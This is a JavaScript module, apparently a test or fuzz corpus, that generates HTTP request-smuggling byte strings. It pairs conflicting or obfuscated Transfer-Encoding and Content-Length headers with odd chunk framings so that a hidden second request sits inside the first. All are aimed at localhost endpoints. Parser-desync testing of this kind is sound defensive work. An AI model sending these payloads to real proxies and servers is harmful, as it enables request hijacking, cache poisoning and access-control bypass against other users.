// What proxies and servers have disagreed about: where a message ends. Each pair is bytes for one caller's connection; the second message
// hides in the first for whoever reads it the other way.

const hidden = "GET /hidden HTTP/1.1\r\nHost: localhost\r\nX: "; // the next caller's first line would end it
const whole_hidden = "GET /hidden HTTP/1.1\r\nHost: localhost\r\n\r\n";
const chunked = (text) => `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`;

const codings = ["Transfer-Encoding: chunked", "Transfer-Encoding:chunked", "Transfer-Encoding : chunked", "Transfer-Encoding:\tchunked",
    "Transfer-Encoding: \x0bchunked", "Transfer-Encoding: \x00chunked", "Transfer-Encoding: chunked\x0b", " Transfer-Encoding: chunked", "X: y\nTransfer-Encoding: chunked",
    "X: y\rTransfer-Encoding: chunked", "Transfer-Encoding:\r\n chunked", "Transfer-Encoding\r\n : chunked", "Transfer-Encoding: xchunked", "Transfer-Encoding: Chunked",
    "Transfer-Encoding: identity", "Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity, chunked", "Transfer-Encoding: gzip, chunked",
    "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: chunked;q=0", "Transfer-Encoding: chunked,", "Transfer-Encoding: ,chunked", "Transfer-Encoding:",
    "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\r\nTransfer-Encoding: cow", "Transfer_Encoding: chunked",
    "Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding", "TE: chunked", "Content-Encoding: chunked", "Transfer-encoding: \xa0chunked", "Transfer-\xa0Encoding: chunked"];

const lengths = (text) => {
    const right = text.length;
    return [`Content-Length: ${right}`, `Content-Length: 0\r\nContent-Length: ${right}`, `Content-Length: ${right}\r\nContent-Length: 0`, `Content-Length: 0, ${right}`,
        `Content-Length: +${right}`, `Content-Length: 0${right}`, `Content-Length: 0x${right.toString(16)}`, `Content-Length : ${right}`, `Content-Length:\r\n ${right}`,
        `Content-Length: ${right}\r\nConnection: Content-Length`, `Content_Length: ${right}`, `Content-Length:\x0b${right}`, `Content-Length: ${right} `, `X: y\nContent-Length: ${right}`,
        `Content-Length: 0\r\nExpect: 100-continue`, `Content-Length: ${right}\r\nExpect: 100-continue`, `Content-Length: ${right}\r\nUpgrade: h2c\r\nConnection: Upgrade`];
};

const chunk_lists = (text) => [chunked(text), `0\r\n\r\n${text}`, `0;a=b\r\n\r\n${text}`, `00000000\r\n\r\n${text}`, `0\n\n${text}`, `0\r\nX: y\r\n\r\n${text}`,
    `0\r\nContent-Length: 5\r\n\r\n${text}`, `1\r\nab\r\n0\r\n\r\n${text}`, `0x1\r\na\r\n0\r\n\r\n${text}`, `-1\r\na\r\n0\r\n\r\n${text}`,
    `ffffffffffffffff1\r\na\r\n0\r\n\r\n${text}`, `1;\n\r\na\r\n0\r\n\r\n${text}`, `1 \r\na\r\n0 \r\n\r\n${text}`, `1;${"x".repeat(5000)}\r\na\r\n0\r\n\r\n${text}`];

const head = (method, path, fields) => `${method} ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n${fields}\r\n\r\n`;

// [name, bytes] of each; one character is one byte.
export function* desync_pairs() {
    for (const [method, path] of [["POST", "/api/v1/requests"], ["GET", "/healthz"], ["POST", "/sign-out"]]) {
        for (const coding of codings) {
            const smuggled = `0\r\n\r\n${hidden}`;
            yield [`length for one, ${JSON.stringify(coding)} for the other`, head(method, path, `Content-Length: ${smuggled.length}\r\n${coding}`) + smuggled];
            yield [`${JSON.stringify(coding)} for one, length for the other`, head(method, path, `${coding}\r\nContent-Length: 4`) + chunked(whole_hidden)];
            yield [`${JSON.stringify(coding)} alone`, head(method, path, coding) + chunked(whole_hidden)];
        }
        for (const text of [whole_hidden, hidden]) {
            for (const length of lengths(text)) {
                yield [`${JSON.stringify(length)}, of ${method}`, head(method, path, length) + text];
            }
            for (const list of chunk_lists(text)) {
                yield [`chunks ${JSON.stringify(list.slice(0, 20))}, of ${method}`, head(method, path, "Transfer-Encoding: chunked") + list];
            }
        }
    }
    yield ["a version that has no chunks", `POST /sign-out HTTP/1.0\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n${chunked(whole_hidden)}`];
    yield ["an absolute target of another house", `GET http://elsewhere.example/ HTTP/1.1\r\nHost: localhost\r\n\r\n${whole_hidden}`];
    yield ["a target with a line in it", `GET /%0d%0aX:%20y HTTP/1.1\r\nHost: localhost\r\n\r\n${whole_hidden}`];
    yield ["the preface of HTTP/2", `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${whole_hidden}`];
    yield ["HEAD with a body", head("HEAD", "/healthz", `Content-Length: ${whole_hidden.length}`) + whole_hidden];
    yield ["a message behind a message", head("GET", "/healthz", "X: y") + whole_hidden];
}
